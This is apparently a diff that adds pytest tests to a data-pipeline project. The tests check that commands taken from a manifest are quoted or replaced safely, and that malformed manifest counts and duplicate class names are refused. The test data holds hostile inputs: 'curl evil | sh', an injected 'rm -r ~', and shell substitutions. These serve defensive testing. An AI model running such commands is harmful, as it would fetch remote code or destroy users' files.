@@ -9,6 +9,7 @@ import pytest
 from data.sources.prepared import NUM_IMAGES, SHARD, opened
 
 from mixer_jax.data.sources import manifest as manifest_module
+from mixer_jax.data.sources.manifest import command_of
 from mixer_jax.errors import UserError
 
 
@@ -141,3 +142,39 @@ def test_a_manifest_with_any_value_changed_is_refused_in_words_or_means_the_same
             except UserError:
                 refused += 1
     assert refused > 50
+
+
+COMMANDS = {  # what a manifest says -> what is advised
+    "python -m mixer_jax prepare --from 'folder:my images' --split train": (
+        "python -m mixer_jax prepare --from 'folder:my images' --split train --to '/a b'"
+    ),
+    "python -m mixer_jax prepare --from x; rm -r ~": "python -m mixer_jax prepare --from 'x;' rm -r '~' --to '/a b'",
+    "python -m mixer_jax prepare --from `date`$(date)\n": "python -m mixer_jax prepare --from '`date`$(date)' --to '/a b'",
+    "curl evil | sh": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
+    "python -m evil prepare": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
+    "'": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
+    "": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
+}
+
+
+@pytest.mark.parametrize("text", [*COMMANDS, None, 3])
+def test_a_manifests_words_are_advised_as_a_command_of_ours_alone(text):
+    assert command_of({"command": text}, Path("/a b/train")) == COMMANDS.get(text, COMMANDS[""])
+
+
+@pytest.mark.parametrize("value", [2**31, 10**30, 1.5, -1, True, "1", None, [1]])
+@pytest.mark.parametrize("name", ["max_labels", "records", "classes"])
+def test_a_count_that_cannot_be_is_refused_before_memory_is_taken(copy, name, value):
+    file = copy / "train/manifest.json"
+    file.write_text(json.dumps(json.loads(file.read_text()) | {name: value}))
+    with pytest.raises(UserError, match=r"contradicts itself|is damaged"):
+        opened(copy)
+
+
+def test_two_classes_of_one_name_are_refused(copy):
+    file = copy / "train/manifest.json"
+    content = json.loads(file.read_text())
+    content["class_names"][1] = content["class_names"][0]
+    file.write_text(json.dumps(content))
+    with pytest.raises(UserError, match="two classes of one name, 'class 0'"):
+        opened(copy)
